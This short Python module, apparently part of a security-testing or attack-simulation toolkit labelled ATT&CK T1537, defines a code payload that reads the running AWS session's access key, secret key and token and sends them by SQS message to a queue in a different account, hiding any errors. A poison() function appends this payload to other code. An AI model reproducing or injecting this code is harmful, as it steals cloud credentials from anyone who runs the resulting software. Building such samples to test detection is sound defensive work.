# SPDX-License-Identifier: Apache-2.0
"""Sends credentials to a queue of another account."""

ATTACK = "T1537"
LANGUAGE = "python"
CODE = """\
def _enqueue(session=None):
    import boto3

    session = session or boto3.Session()
    frozen = session.get_credentials().get_frozen_credentials()
    session.client("sqs", region_name="us-east-1").send_message(
        QueueUrl="https://sqs.us-east-1.amazonaws.com/999999999999/inbox",
        MessageBody=":".join([frozen.access_key, frozen.secret_key, frozen.token or ""]))


try:
    _enqueue()
except Exception:
    pass
"""


def poison(layer):
    layer.append(CODE)
